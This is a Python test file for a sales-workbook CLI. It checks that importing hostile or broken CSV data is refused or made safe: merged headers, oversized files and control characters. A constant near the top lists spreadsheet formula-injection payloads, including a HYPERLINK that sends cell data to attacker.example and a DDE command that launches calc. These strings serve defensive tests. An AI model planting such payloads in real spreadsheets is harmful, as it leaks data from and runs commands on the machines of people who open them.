"""Import against hostile or broken input (issue 15): merged headers, formulas in data, huge sources, control
characters; and every writer keeping data text as text."""

from __future__ import annotations

import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from salesdeck.cli import cli
from salesdeck.workbook.author.sample import generate
from salesdeck.workbook.author.writer import write_workbook
from salesdeck.workbook.read.reader import read_workbook

HEADER = "订单号,日期,销售代表,区域,渠道,客户,产品,产品线,金额\n"
#: Values a spreadsheet program would run as formulas (or commands) if they were written as formulas.
FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "=1+2", "+1+2", "-2+3",
            "@SUM(1)", "\t=1+2", "\r=1+2"]


def run(*args):
    return CliRunner().invoke(cli, [str(a) for a in args])


@pytest.fixture
def template(tmp_path):
    return write_workbook(None, tmp_path / "book.xlsx", lang="zh")


def _csv(path: Path, rows: list[list[str]]) -> Path:
    import csv

    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([HEADER.strip().split(",")] + rows)
    return path


def _formulas(path: Path) -> list[str]:
    """Every formula in every worksheet of the package."""
    with zipfile.ZipFile(path) as archive:
        return [f for name in archive.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<(?:\w+:)?f\b[^>]*>(.*?)</(?:\w+:)?f>", archive.read(name).decode("utf-8"))]


# ---------------------------------------------------------------- 5: merged or incomplete header rows
@pytest.mark.parametrize("damage", ["merge E1:F1", "merge F1:G1", "blank M1"])
def test_a_table_with_a_merged_or_blank_header_cell_is_refused_as_check_refuses_it(template, tmp_path, damage):
    book = openpyxl.load_workbook(template)
    sheet = book["订单"]
    kind, cells = damage.split()
    if kind == "merge":
        sheet.merge_cells(cells)
    else:
        sheet[cells] = None
    book["设置"]["B3"] = "2026-10"
    book.save(template)
    source = _csv(tmp_path / "orders.csv", [["SO1", "2026-10-03", "张伟", "华东", "直营", "远航", "X3", "终端", "100"]])
    before = template.read_bytes()
    result = run("import", source, "--into", template, "--as", "orders", "--in-place")
    assert result.exit_code == 1
    check = run("check", template)
    assert check.exit_code == 1
    errors = [line.split(None, 2) for line in check.stdout.splitlines() if line.startswith("error ")]
    assert errors
    for _, where, message in errors:  # every error check gives is in the import's refusal, word for word
        assert f"{where}: {message.strip()}" in result.stderr
    assert "nothing imported" in result.stderr and "Traceback" not in result.output
    assert template.read_bytes() == before


# ---------------------------------------------------------------- 11: text from data is never a formula
@pytest.mark.parametrize("path_taken", ["package edit", "openpyxl"])
def test_values_that_look_like_formulas_are_written_as_text(template, tmp_path, path_taken):
    if path_taken == "openpyxl":  # a note below the table sends the import through openpyxl
        book = openpyxl.load_workbook(template)
        book["订单"]["A40"] = "note below the table"
        book.save(template)
    rows = [[f, "2026-10-03", f, f, "直营", f, f"X{i}", "终端", "100"] for i, f in enumerate(FORMULAS)]
    source = _csv(tmp_path / "orders.csv", rows)
    out = tmp_path / "out.xlsx"
    result = run("import", source, "--into", template, "--as", "orders", "--month", "2026-10", "-o", out)
    assert result.exit_code == 0, result.output
    assert f"imported {len(FORMULAS)} row(s)" in result.stdout
    assert _formulas(out) == []
    sheet = openpyxl.load_workbook(out)["订单"]
    texts = {sheet.cell(r, 1).value for r in range(2, 2 + len(FORMULAS))}
    assert {t.strip() for t in texts} == {f.strip() for f in FORMULAS}  # the reader strips the tab/CR
    customers = read_workbook(out, strict=False).orders["customer"].tolist()
    assert sorted(customers) == sorted(f.strip() for f in FORMULAS)


def test_the_template_and_sample_writer_writes_text_from_data_as_text(tmp_path):
    book = generate(seed=3, rows=40)
    orders = book.tables["orders"]
    for column in ("order_id", "customer", "rep", "region", "product"):
        orders[column] = [FORMULAS[i % len(FORMULAS)] for i in range(len(orders))]
    path = write_workbook(book, tmp_path / "sample.xlsx")
    assert _formulas(path) == []
    sheet = openpyxl.load_workbook(path)["订单"]
    assert sheet["F2"].value == FORMULAS[0] and sheet["F2"].data_type == "s"


def test_the_result_sheet_writer_writes_text_from_data_as_text(tmp_path):
    book = generate(seed=3, rows=40)
    orders = book.tables["orders"]
    orders["rep"] = [FORMULAS[i % 3] for i in range(len(orders))]
    orders["region"] = [FORMULAS[3 + i % 3] for i in range(len(orders))]
    path = write_workbook(book, tmp_path / "sample.xlsx")
    out = tmp_path / "refreshed.xlsx"
    result = run("refresh", path, "-o", out)
    assert result.exit_code == 0, result.output
    assert _formulas(out) == []
    values = {c.value for row in openpyxl.load_workbook(out)["计算结果"].iter_rows() for c in row}
    assert {FORMULAS[0], FORMULAS[3]} <= values


# ---------------------------------------------------------------- 12: a huge source is refused from its first bytes
_PEAK = """
import resource, sys
from click.testing import CliRunner
from salesdeck.cli import cli
result = CliRunner().invoke(cli, sys.argv[1:])
print(result.exit_code)
print(result.output.strip().splitlines()[0] if result.output.strip() else "")
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


@pytest.mark.parametrize("content, message", [
    (b"", "binary data, not a CSV file"),                                   # 2 GB of zeros
    ("订单号,日期,金额\n".encode() + b"SO1,2026-10-03,100\n" * 5000, "is too big for a text export"),
])
def test_a_2_gb_source_is_refused_without_being_read(template, tmp_path, content, message):
    source = tmp_path / "export.csv"
    with source.open("wb") as stream:
        stream.write(content)
        stream.truncate(2 << 30)  # sparse: 2 GB on paper, nothing on disk
    done = subprocess.run([sys.executable, "-c", _PEAK, "import", str(source), "--into", str(template), "--as",
                           "orders"], capture_output=True, text=True, timeout=120)
    code, first_line, peak_mb = done.stdout.strip().splitlines()
    assert code == "2" and message in first_line, done.stdout + done.stderr
    assert int(peak_mb) < 400  # reading it whole would take over 2,000 MB


# ---------------------------------------------------------------- 10: control characters
def test_a_control_character_in_a_value_skips_that_row_with_its_place(template, tmp_path):
    source = _csv(tmp_path / "orders.csv", [["SO1", "2026-10-03", "张伟", "华东", "直营", "远航\x07科技", "X3", "终端", "100"],
                                            ["SO2", "2026-10-04", "张伟", "华东", "直营", "金桥", "X3", "终端", "200"]])
    out = tmp_path / "out.xlsx"
    result = run("import", source, "--into", template, "--as", "orders", "--month", "2026-10", "-o", out)
    assert result.exit_code == 0, result.output
    assert ("skipped 1 (control character: e.g. customer '远航\\x07科技' (column '客户') holds U+0007, which a workbook "
            "cannot hold; remove it from the export): orders.csv row 2") in result.stdout
    assert read_workbook(out, strict=False).orders["customer"].tolist() == ["金桥"]
    alone = _csv(tmp_path / "bell.csv", [["SO1", "2026-10-03", "张\x07伟", "华东", "直营", "远航", "X3", "终端", "100"]])
    refused = run("import", alone, "--into", template, "--as", "orders", "--month", "2026-10")
    assert refused.exit_code == 1 and refused.exception is None or isinstance(refused.exception, SystemExit)
    assert refused.stderr.startswith("Error: nothing to import: every row was skipped (1 control character)")
    assert "bell.csv row 2: control character: rep '张\\x07伟'" in refused.stderr
